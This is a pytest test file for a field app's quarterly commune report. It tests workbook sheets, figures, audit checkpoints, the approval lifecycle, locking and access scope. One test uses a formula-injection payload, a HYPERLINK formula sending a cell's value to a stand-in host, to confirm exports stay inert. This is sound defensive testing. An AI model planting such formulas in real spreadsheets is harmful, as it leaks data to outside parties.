"""The quarterly report (issue 17, item 3): its workbook opened with openpyxl (sheets, headings, figures equal
to GET /indicators for the reporting quarter, the list of people supported equal to its export, the
checkpoint equal to the log's head and verifying its export), its lifecycle and errors, the lock (evidence
recorded after approval: the approved figures unchanged, the late part shown apart), the communes' status
list, and its scope."""
import csv
import hashlib
import io
import json
import uuid
from datetime import date

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from fieldapp.audit.verify import Head, verify_export
from fieldapp.clock import utcnow
from fieldapp.extensions import db
from fieldapp.models import Role, Unit
from fieldapp.models.activity import ActivityEntry
from fieldapp.models.indicators import INDICATORS
from fieldapp.models.reports import QuarterlyReport, ReportStatus
from fieldapp.periods import local_day, report_due, report_quarter_label, report_quarter_named, report_quarter_of
from fieldapp.selectors import reports as sheets
from fieldapp.selectors.support_records import HEADERS
from tests.factories import (
    HA_NOI,
    HUNG_CHAU,
    HUNG_CHAU_CENTRE,
    NGHE_AN,
    OTHER_COMMUNE,
    assign,
    make_ambassador,
    make_household,
    make_mentorship,
    make_organisation,
    make_person,
    make_team,
    make_user,
)

LAT, LON = HUNG_CHAU_CENTRE
HERE = {"lat": LAT, "lon": LON, "accuracy_m": 5}
MOCKED_FAR = {"lat": LAT + 0.05, "lon": LON, "accuracy_m": 5, "mock_location": True}  # held back for review


def _period():
    return report_quarter_of(local_day(utcnow()))


QUARTER = report_quarter_label(_period())


@pytest.fixture
def world(login):
    volunteer = make_user()
    team = make_team(members=[volunteer])
    household = make_household(lat=LAT, lon=LON)
    assign(household, volunteer, team)
    officer = make_user(role=Role.commune_officer)
    province = make_user(role=Role.province_officer, unit_code=NGHE_AN)
    return {"volunteer": volunteer, "headers": login(volunteer), "household": household, "team": team,
            "officer": officer, "officer_headers": login(officer), "province": province,
            "province_headers": login(province)}


def _visit(client, world, people, gps=HERE) -> dict:
    answer = client.post("/api/v1/visits", headers=world["headers"], json={
        "client_id": str(uuid.uuid4()), "household_id": world["household"].public_id, "outcome": "supported",
        "visited_at": utcnow().isoformat(), "gps": gps,
        "people": [{"person_id": p.public_id, "skills": skills} for p, skills in people]})
    assert answer.status_code == 201, answer.get_json()
    return answer.get_json()


def _report(client, headers, quarter=QUARTER, unit=HUNG_CHAU, **query):
    return client.get("/api/v1/reports/quarterly", headers=headers,
                      query_string={"unit": unit, "quarter": quarter, **query})


def _workbook(client, headers, **query) -> dict[str, list[list]]:
    answer = _report(client, headers, format="xlsx", **query)
    assert answer.status_code == 200, answer.get_data()[:300]
    book = load_workbook(io.BytesIO(answer.data))
    return {name: [["" if v is None else v for v in row] for row in book[name].iter_rows(values_only=True)]
            for name in book.sheetnames}


def _step(client, headers, step, commune=HUNG_CHAU, quarter=QUARTER, **extra):
    return client.post(f"/api/v1/reports/quarterly/{step}", headers=headers,
                       json={"commune_code": commune, "quarter": quarter, **extra})


def _indicators(client, headers) -> list[dict]:
    answer = client.get("/api/v1/indicators", headers=headers, query_string={"unit": HUNG_CHAU,
                                                                            "period": _period().name})
    assert answer.status_code == 200, answer.get_json()
    return answer.get_json()["figures"]


def _blank(value):
    return "" if value is None else value


def test_the_workbook_holds_every_sheet_and_its_figures_are_those_of_the_indicators_and_the_list(client, world):
    person, other = make_person(household=world["household"]), make_person(household=world["household"])
    _visit(client, world, [(person, ["online_safety", "cashless_payment"])])
    _visit(client, world, [(other, ["online_shopping"])], gps=MOCKED_FAR)  # held back: beside, not counted
    organisation = make_organisation(members=[person, other])
    make_mentorship(mentor=make_ambassador(user=world["volunteer"]), mentee=other)
    headers = world["officer_headers"]
    # (plain values: the log's export below lets go of the objects it read)
    team_id, organisation_code, mentor_id = world["team"].id, organisation.code, world["volunteer"].id

    book = _workbook(client, headers)
    assert list(book) == [sheets.SHEET_COVER, sheets.SHEET_INDICATORS, sheets.SHEET_PEOPLE, sheets.SHEET_TEAMS,
                          sheets.SHEET_ORGANISATIONS, sheets.SHEET_AMBASSADORS, sheets.SHEET_CHECKPOINT]
    for name, heading in ((sheets.SHEET_INDICATORS, sheets.INDICATOR_HEADERS), (sheets.SHEET_PEOPLE, HEADERS),
                          (sheets.SHEET_TEAMS, sheets.TEAM_HEADERS),
                          (sheets.SHEET_ORGANISATIONS, sheets.ORGANISATION_HEADERS),
                          (sheets.SHEET_AMBASSADORS, sheets.AMBASSADOR_HEADERS),
                          (sheets.SHEET_CHECKPOINT, sheets.CHECKPOINT_HEADERS)):
        assert book[name][0] == heading, name
    cover = dict(row[:2] for row in book[sheets.SHEET_COVER][1:])
    assert cover["Mã xã"] == HUNG_CHAU and cover["Trạng thái"] == "Dự thảo (chưa nộp)"
    assert cover["Hạn nộp"] == f"trước ngày {report_due(_period()).strftime('%d/%m/%Y')}"

    # The indicators: exactly GET /indicators for the reporting quarter, in its order.
    rows = {row[0]: row for row in book[sheets.SHEET_INDICATORS][1:]}
    live = _indicators(client, headers)
    assert list(rows) == [f["code"] for f in live]
    for figure in live:
        row = rows[figure["code"]]
        assert row[1] == INDICATORS[figure["code"]].name
        assert (row[2], row[3], row[11]) == (figure["numerator"], _blank(figure["denominator"]),
                                            _blank(figure["held_back"])), figure["code"]
        assert row[5] == ("" if figure["share"] is None else round(figure["share"] * 100, 2)), figure["code"]
    assert (rows["support.records"][2], rows["support.records"][11]) == (2, 1)
    assert rows["basic_skills.adults"][6] == (100 if _period().year >= 2026 else 80)  # the national target, in %
    assert rows["basic_skills.adults"][8].startswith("Mục tiêu chung toàn quốc")

    # The checkpoint: the log's head (nothing was logged after the report's own entry), whole, and the log's
    # export verifies against it.
    checkpoint = {row[0]: row[1] for row in book[sheets.SHEET_CHECKPOINT][1:]}
    head = client.get("/api/v1/activity/head", headers=headers, query_string={"log": HUNG_CHAU}).get_json()
    assert checkpoint["Số mục (size)"] == head["size"] and checkpoint["Mã băm gốc (root_hash)"] == head["root_hash"]
    saved = json.loads(checkpoint["Điểm chốt dạng JSON (lưu thành tệp head.json)"])
    assert saved == head
    entries = client.get("/api/v1/activity/export", headers=headers, query_string={"log": HUNG_CHAU})
    verified = verify_export(entries.get_data().splitlines(keepends=True), head=Head.from_json(saved))
    assert verified.entries > head["size"]  # the export's own entry after it
    logged = db.session.scalars(sa.select(ActivityEntry).where(ActivityEntry.log_unit == HUNG_CHAU,
                                                               ActivityEntry.action.like("quarterly_report.%"))).all()
    assert [(e.action, json.loads(e.body)["format"]) for e in logged] == [("quarterly_report.export", "xlsx")]

    team = next(row for row in book[sheets.SHEET_TEAMS][1:] if row[0] == team_id)
    assert team[5:] == [1, 2, 1, 1, 1]  # members, records, people reached, visits counted, records held back
    (org,) = [row for row in book[sheets.SHEET_ORGANISATIONS][1:] if row[0] == organisation_code]
    assert org[3:6] == [2, 0, 0]
    (mentor,) = [row for row in book[sheets.SHEET_AMBASSADORS][1:] if row[0] == mentor_id]
    assert mentor[3:] == [1, 0, 1, "Chưa đạt", 4]

    # The list of people supported: the rows of its own export for the quarter's days, same columns, same order.
    period = _period()
    export = client.get("/api/v1/support-records", headers=headers, query_string={
        "format": "xlsx", "commune": HUNG_CHAU, "since": period.starts_at.isoformat(),
        "until": period.ends_before.isoformat()})
    exported = [["" if v is None else v for v in row]
                for row in load_workbook(io.BytesIO(export.data)).worksheets[0].iter_rows(values_only=True)]
    assert book[sheets.SHEET_PEOPLE] == exported and len(exported) == 3  # the header and two counted records


def test_the_json_answers_the_same_figures_and_the_csv_is_the_indicators_sheet(client, world):
    _visit(client, world, [(make_person(household=world["household"]), ["online_safety"])])
    headers = world["officer_headers"]
    answer = _report(client, headers)
    assert answer.status_code == 200, answer.get_json()
    report = answer.get_json()
    assert report["figures"] == _indicators(client, headers)
    assert (report["status"], report["frozen"], report["late"], report["support_records"]) == ("draft", False,
                                                                                              None, 1)
    assert report["period"]["name"] == _period().name and report["quarter"] == QUARTER
    head = client.get("/api/v1/activity/head", headers=headers, query_string={"log": HUNG_CHAU}).get_json()
    assert report["checkpoint"] == report["current_checkpoint"] == head
    team = next(t for t in report["teams"] if t["team_id"] == world["team"].id)
    assert (team["support_records"], team["people_reached"], team["visits"]) == (1, 1, 1)

    as_csv = _report(client, headers, format="csv")
    assert as_csv.mimetype == "text/csv" and as_csv.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(as_csv.data.decode("utf-8-sig"))))
    assert rows[0] == sheets.INDICATOR_HEADERS
    assert [row[0] for row in rows[1:]] == [f["code"] for f in report["figures"]]


def test_the_lifecycle_and_its_errors(client, world, login):
    officer, province = world["officer_headers"], world["province_headers"]
    _visit(client, world, [(make_person(household=world["household"]), ["online_safety"])])

    approving_a_draft = _step(client, province, "approve")
    assert (approving_a_draft.status_code, approving_a_draft.get_json()["error_code"]) == (409, "report.not_submitted")
    assert "chưa được nộp" in approving_a_draft.get_json()["message"]
    by_province = _step(client, province, "submit")
    assert (by_province.status_code, by_province.get_json()["error_code"]) == (403, "report.submit_by_commune")

    submitted = _step(client, officer, "submit")
    assert submitted.status_code == 200, submitted.get_json()
    assert submitted.get_json()["status"] == "submitted"
    twice = _step(client, officer, "submit")
    assert (twice.status_code, twice.get_json()["error_code"]) == (409, "report.already_submitted")
    q, year = QUARTER[-1], QUARTER[:4]
    assert f"Quý {q}/{year}" in twice.get_json()["message"]
    english = client.post("/api/v1/reports/quarterly/submit", headers={**officer, "Accept-Language": "en"},
                          json={"commune_code": HUNG_CHAU, "quarter": QUARTER})
    assert "already submitted" in english.get_json()["message"]

    by_commune = _step(client, officer, "approve")
    assert (by_commune.status_code, by_commune.get_json()["error_code"]) == (403, "report.approve_by_province")
    assert "cấp tỉnh" in by_commune.get_json()["message"]
    elsewhere = login(make_user(role=Role.province_officer, unit_code=HA_NOI))
    assert _step(client, elsewhere, "approve").get_json()["error_code"] == "unit.not_found"
    assert _step(client, elsewhere, "approve").status_code == 404
    assert _step(client, world["headers"], "submit").status_code == 403  # a volunteer: no verb

    approved = _step(client, province, "approve")
    assert approved.status_code == 200, approved.get_json()
    body = approved.get_json()
    assert (body["status"], body["approved_by"]) == ("approved", world["province"].id)
    for step, code in (("approve", "report.already_approved"), ("submit", "report.locked")):
        again = _step(client, officer if step == "submit" else province, step)
        assert (again.status_code, again.get_json()["error_code"]) == (409, code), step
    returned = _step(client, province, "return", reason="Sửa lại")
    assert (returned.status_code, returned.get_json()["error_code"]) == (409, "report.locked")

    # Each transition in the commune's log, the snapshot's digest in both.
    record = db.session.get(QuarterlyReport, (HUNG_CHAU, int(year), int(q)))
    digest = hashlib.sha256(record.snapshot.encode("utf-8")).hexdigest()
    assert digest == record.snapshot_sha256 == body["snapshot_sha256"]
    entries = db.session.scalars(sa.select(ActivityEntry).where(
        ActivityEntry.log_unit == HUNG_CHAU, ActivityEntry.action.in_(["quarterly_report.submit",
                                                                        "quarterly_report.approve"]))
        .order_by(ActivityEntry.id)).all()
    assert [(e.action, e.object_id, json.loads(e.body)["snapshot_sha256"]) for e in entries] == [
        ("quarterly_report.submit", f"{HUNG_CHAU}:{QUARTER}", digest),
        ("quarterly_report.approve", f"{HUNG_CHAU}:{QUARTER}", digest)]
    frozen = json.loads(record.snapshot)
    assert json.loads(entries[0].body)["checkpoint_size"] == frozen["checkpoint"]["size"]

    # A quarter that has not begun cannot be submitted; a quarter that does not exist is a bad request.
    period = _period()
    following = f"{period.last.year + (period.last.month == 12)}-Q{period.last.month // 3 % 4 + 1}"
    early = _step(client, officer, "submit", quarter=following)
    assert (early.status_code, early.get_json()["error_code"]) == (422, "report.quarter_not_started")
    for bad in ("2026-Q5", "2026-R3", "2050-Q1"):
        assert _step(client, officer, "submit", quarter=bad).status_code == 422, bad


def test_a_returned_report_is_a_draft_again_and_is_submitted_anew(client, world):
    officer, province = world["officer_headers"], world["province_headers"]
    assert _step(client, officer, "submit").status_code == 200
    assert _step(client, province, "return").status_code == 422  # a reason is required
    returned = _step(client, province, "return", reason="Thiếu danh sách của xóm 3")
    assert returned.status_code == 200, returned.get_json()
    assert (returned.get_json()["status"], returned.get_json()["returned"],
            returned.get_json()["return_reason"]) == ("draft", True, "Thiếu danh sách của xóm 3")
    (entry,) = db.session.scalars(sa.select(ActivityEntry).where(ActivityEntry.action == "quarterly_report.return"))
    assert json.loads(entry.body)["reason"] == "Thiếu danh sách của xóm 3"

    _visit(client, world, [(make_person(household=world["household"]), ["online_safety"])])
    report = _report(client, officer).get_json()  # a draft again: computed now
    assert (report["frozen"], report["late"], report["support_records"]) == (False, None, 1)
    book = _workbook(client, officer)
    assert dict(row[:2] for row in book[sheets.SHEET_COVER][1:])["Lý do trả lại"] == "Thiếu danh sách của xóm 3"

    again = _step(client, officer, "submit")
    assert again.status_code == 200 and again.get_json()["returned"] is False
    assert again.get_json()["return_reason"] is None
    # Submitted, not approved yet: the frozen figures, and what came after apart, under the submission's name.
    _visit(client, world, [(make_person(household=world["household"]), ["cashless_payment"])])
    book = _workbook(client, officer)
    assert list(book)[-2:] == [sheets.SHEET_LATE[ReportStatus.submitted],
                               sheets.SHEET_LATE_RECORDS[ReportStatus.submitted]]


def test_approval_locks_the_figures_and_later_evidence_is_shown_as_late(client, world):
    officer, province = world["officer_headers"], world["province_headers"]
    first, second = make_person(household=world["household"]), make_person(household=world["household"])
    _visit(client, world, [(first, ["online_safety"])])
    held = _visit(client, world, [(second, ["cashless_payment"])], gps=MOCKED_FAR)  # held back at submission
    assert _step(client, officer, "submit").status_code == 200
    assert _step(client, province, "approve").status_code == 200
    approved = _report(client, officer).get_json()
    frozen = {f["code"]: f for f in approved["figures"]}
    assert frozen["support.records"]["numerator"] == 1

    # Evidence for the quarter's days after approval: a new visit, and the held one accepted on review.
    _visit(client, world, [(first, ["cashless_payment"])])
    review = client.post("/api/v1/reviews", headers=officer, json={
        "type": "visit", "id": held["id"], "decision": "accepted", "reason": "Đã gọi điện xác nhận"})
    assert review.status_code in (200, 201), review.get_json()
    live = {f["code"]: f for f in _indicators(client, officer)}
    assert live["support.records"]["numerator"] == 3

    report = _report(client, officer).get_json()
    assert (report["status"], report["frozen"]) == ("approved", True)
    assert report["figures"] == approved["figures"]  # the approved figures never move
    assert report["checkpoint"] == approved["checkpoint"]  # nor the checkpoint they were computed against
    assert report["current_checkpoint"]["size"] > report["checkpoint"]["size"]
    late = {f["code"]: f for f in report["late"]["figures"]}
    assert (late["support.records"]["frozen"]["numerator"], late["support.records"]["live"]["numerator"],
            late["support.records"]["numerator_change"]) == (1, 3, 2)
    assert late["support.records"]["flow"] is True and late["basic_skills.adults"]["flow"] is False
    added = report["late"]["added_support_record_ids"]
    assert len(added) == 2 and report["late"]["withdrawn_support_record_ids"] == []

    book = _workbook(client, officer)
    approved_status = ReportStatus.approved
    assert list(book)[-2:] == [sheets.SHEET_LATE[approved_status], sheets.SHEET_LATE_RECORDS[approved_status]]
    indicators = {row[0]: row for row in book[sheets.SHEET_INDICATORS][1:]}
    assert indicators["support.records"][2] == 1  # the frozen figure in the indicators sheet
    late_rows = {row[0]: row for row in book[sheets.SHEET_LATE[approved_status]][1:]}
    assert late_rows["support.records"][3:6] == [1, 3, 2]
    records = book[sheets.SHEET_LATE_RECORDS[approved_status]]
    assert records[0] == sheets.LATE_RECORD_HEADERS
    assert sorted(row[11] for row in records[1:]) == sorted(added)
    assert {row[-1] for row in records[1:]} == {sheets.LATE_ADDED}
    assert len(book[sheets.SHEET_PEOPLE]) == 2  # the frozen list: one record
    columns = {row[0]: row[1:] for row in book[sheets.SHEET_CHECKPOINT][1:]}
    assert columns["Số mục (size)"][0] == approved["checkpoint"]["size"]
    assert columns["Số mục (size)"][1] > columns["Số mục (size)"][0]

    # The database itself refuses to change an approved report, whatever asks.
    with pytest.raises(sa.exc.DBAPIError, match="locked"):
        with db.session.begin_nested():
            db.session.execute(sa.text("UPDATE quarterly_reports SET snapshot = '{}' WHERE commune_code = :c"),
                               {"c": HUNG_CHAU})
    with pytest.raises(sa.exc.DBAPIError, match="locked"):
        with db.session.begin_nested():
            db.session.execute(sa.text("DELETE FROM quarterly_reports WHERE commune_code = :c"), {"c": HUNG_CHAU})


def test_the_status_list_puts_the_communes_not_submitted_first(client, world, login):
    from fieldapp.auth.callers import Caller
    from fieldapp.services.reports import report_approve, report_return, report_submit

    returned_code, approved_code = db.session.scalars(sa.select(Unit.code).where(
        Unit.parent_code == NGHE_AN, Unit.code != HUNG_CHAU).order_by(Unit.code.desc()).limit(2)).all()
    period = _period()
    province = Caller.of_user(world["province"])
    for code in (returned_code, approved_code):
        commune = db.session.get(Unit, code)
        report_submit(caller=Caller.of_user(make_user(role=Role.commune_officer, unit_code=code)), commune=commune,
                      period=period)
    report_return(caller=province, commune=db.session.get(Unit, returned_code), period=period, reason="Thiếu số liệu")
    report_approve(caller=province, commune=db.session.get(Unit, approved_code), period=period)
    db.session.commit()
    assert _step(client, world["officer_headers"], "submit").status_code == 200

    answer = client.get("/api/v1/reports/quarterly/status", headers=world["province_headers"],
                        query_string={"unit": NGHE_AN, "quarter": QUARTER})
    assert answer.status_code == 200, answer.get_json()
    listed = answer.get_json()
    communes = listed["communes"]
    assert len(communes) == db.session.scalar(sa.select(sa.func.count()).where(Unit.parent_code == NGHE_AN))
    statuses = [c["status"] for c in communes]
    assert statuses == sorted(statuses, key=["draft", "submitted", "approved"].index)
    assert communes[0]["commune_code"] == returned_code and communes[0]["returned"] is True
    assert communes[0]["return_reason"] == "Thiếu số liệu"
    drafts = [c["commune_code"] for c in communes if c["status"] == "draft"]
    assert drafts[1:] == sorted(drafts[1:]) and listed["not_submitted"] == drafts
    assert [c["commune_code"] for c in communes[-2:]] == [HUNG_CHAU, approved_code]
    assert communes[-2]["submitted_late"] is False
    assert listed["counts"] == {"draft": len(drafts), "submitted": 1, "approved": 1}
    due = report_due(period)
    assert listed["due_before"] == due.isoformat() and listed["due_at"] == f"{due.isoformat()}T00:00:00+07:00"
    assert listed["days_left"] == (due - local_day(utcnow())).days > 0 and listed["overdue"] is False
    assert {(c["due_before"], c["days_left"], c["overdue"]) for c in communes} == {
        (due.isoformat(), listed["days_left"], False)}

    # Without a quarter: the one today is in. A commune's own officer reads their commune, not the province.
    own = client.get("/api/v1/reports/quarterly/status", headers=world["officer_headers"]).get_json()
    assert (own["quarter"], [c["commune_code"] for c in own["communes"]]) == (QUARTER, [HUNG_CHAU])
    assert client.get("/api/v1/reports/quarterly/status", headers=world["officer_headers"],
                      query_string={"unit": NGHE_AN}).status_code == 404


def test_the_quarters_cut_off_days():
    third = report_quarter_named("2026-Q3")
    assert (third.name, third.first, third.last, report_due(third)) == (
        "2026-R3", date(2026, 6, 10), date(2026, 9, 9), date(2026, 9, 10))
    first = report_quarter_named("2026-Q1")
    assert (first.first, first.last, report_due(first)) == (date(2025, 12, 10), date(2026, 3, 9), date(2026, 3, 10))
    assert report_quarter_of(date(2026, 9, 9)).name == "2026-R3" and report_quarter_of(date(2026, 9, 10)).name == \
        "2026-R4"
    assert report_quarter_label(report_quarter_of(date(2026, 12, 10))) == "2027-Q1"


def test_the_report_is_read_through_the_area(client, world, login):
    headers = world["officer_headers"]
    assert _report(client, world["province_headers"]).status_code == 200  # any commune of the province
    for role, unit, status in ((Role.commune_officer, OTHER_COMMUNE, 404), (Role.province_officer, HA_NOI, 404),
                               (Role.volunteer, HUNG_CHAU, 403), (Role.team_leader, HUNG_CHAU, 403)):
        other = login(make_user(role=role, unit_code=unit))
        answer = _report(client, other)
        assert answer.status_code == status, (role, unit, answer.get_json())
        listed = client.get("/api/v1/reports/quarterly/status", headers=other, query_string={"unit": HUNG_CHAU})
        assert listed.status_code == status, (role, unit)
    assert _report(client, headers, unit=NGHE_AN).status_code == 422  # a province has no quarterly report here
    assert _report(client, headers, quarter="2026-Q5").status_code == 422


def test_the_workbooks_text_is_inert_as_every_export(client, world):
    """A name typed in the field that Excel would run as a formula stays text, in every sheet (exports.md)."""
    formula = '=HYPERLINK("http://x/?q="&B2,"Xem")'
    _visit(client, world, [(make_person(household=world["household"], full_name=formula), ["online_safety"])])
    answer = _report(client, world["officer_headers"], format="xlsx")
    book = load_workbook(io.BytesIO(answer.data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formula in [cell.value for cell in cells]
